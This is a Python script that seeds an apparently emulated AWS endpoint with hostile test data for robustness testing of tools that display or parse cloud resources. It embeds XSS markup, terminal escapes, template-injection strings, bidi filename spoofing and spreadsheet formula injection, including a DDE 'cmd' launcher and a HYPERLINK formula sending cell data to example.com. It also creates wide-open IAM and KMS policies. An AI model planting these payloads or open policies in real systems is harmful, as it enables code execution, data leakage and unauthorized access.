"""Fills an AWS endpoint with names, tags and policies that mean harm to whoever prints or parses them.

Usage: seed_hostile.py ENDPOINT
"""

import json

from seed_company import allow, client, policy

MARKUP = "<script>alert('evidenced')</script><img src=x onerror=alert(1)>"
TERMINAL = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\n\x00\x08"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
BIDI = "\u202egnp.exe\u2066\u200b"
TEXTS = [MARKUP, TERMINAL, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", BIDI, "a\nb\u2028c", "\U0001f4a3" * 30]
TEMPLATES = "{{ 7*7 }}{% raw %}${7*7}%s%n"


def main():
    s3, iam, kms, logs = (client(name, "eu-central-1") for name in ("s3", "iam", "kms", "logs"))
    where = {"CreateBucketConfiguration": {"LocationConstraint": "eu-central-1"}}
    for name in ("tagged", "large-policy", "deep", "many-tags", "not-json"):
        s3.create_bucket(Bucket=f"hostile-{name}", **where)

    texts = [*TEXTS, TEMPLATES]
    # An emulator of S3 speaks XML, which has no control characters: those go by IAM and KMS below.
    printable = ["".join(c for c in text if c >= " ") for text in texts]
    tags = [{"Key": f"tag{i} {text[:40]}", "Value": text} for i, text in enumerate(printable)]
    s3.put_bucket_tagging(Bucket="hostile-tagged", Tagging={"TagSet": tags[:45]})
    many = [{"Key": f"key-{i:05}", "Value": f"value-{i}"} for i in range(10_000)]
    try:
        s3.put_bucket_tagging(Bucket="hostile-many-tags", Tagging={"TagSet": many})
    except s3.exceptions.ClientError as error:
        print("10,000 tags were refused:", error.response["Error"]["Code"])

    # 100 KB of policy, every statement with a Sid of its own.
    statements = [
        allow("s3:GetObject", "arn:aws:s3:::hostile-large-policy/*", Principal={"AWS": f"{i:012}"}, Sid=f"S{i}{MARKUP}")
        for i in range(520)
    ]
    large = policy(*statements)
    assert len(large) > 100_000, len(large)
    s3.put_bucket_policy(Bucket="hostile-large-policy", Policy=large)

    deep = {"StringEquals": {"aws:PrincipalOrgID": "o-1"}}
    for _ in range(100):
        deep = {"nested": [deep]}
    document = policy(allow("s3:*", "*", Principal="*", Condition=deep))
    s3.put_bucket_policy(Bucket="hostile-deep", Policy=document)

    trust = {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
    for index, text in enumerate(texts):
        statement = {**trust, "Sid": text, "Condition": {"StringLike": {"aws:UserAgent": text}}}
        iam.create_role(RoleName=f"role-{index}", AssumeRolePolicyDocument=policy(statement))
        key = kms.create_key(Description=text)["KeyMetadata"]["KeyId"]
        open_key = allow("kms:*", Principal={"AWS": "*"}, Sid=text)
        kms.put_key_policy(KeyId=key, PolicyName="default", Policy=policy(open_key))
    # The emulator takes what AWS would not: policies that are no objects, and names that are no names.
    for index, document in enumerate(["[]", '"text"', "null", "{}", '{"Statement": 7}', '{"Statement": [[[]]]}']):
        key = kms.create_key(Description=f"odd policy {index}")["KeyMetadata"]["KeyId"]
        try:
            kms.put_key_policy(KeyId=key, PolicyName="default", Policy=document)
        except kms.exceptions.ClientError as error:
            print("a policy was refused:", document, error.response["Error"]["Code"])
    iam.create_user(UserName="mallory,=1+1", Tags=[{"Key": "markup", "Value": MARKUP}])
    iam.create_group(GroupName="@group+x=y")
    for name in ("/hostile/a.b_c-d#e", "/hostile/" + "x" * 400):
        logs.create_log_group(logGroupName=name)
    filters = ['{ $.x = "' + json.dumps(MARKUP)[1:-1] + '" }', "{" * 200, '{ ($.a = "' + "b" * 900 + '") }', BIDI]
    for index, pattern in enumerate(filters):
        logs.put_metric_filter(
            logGroupName="/hostile/a.b_c-d#e",
            filterName=f"filter-{index}",
            filterPattern=pattern,
            metricTransformations=[{"metricName": "m", "metricNamespace": "n", "metricValue": "1"}],
        )


main()
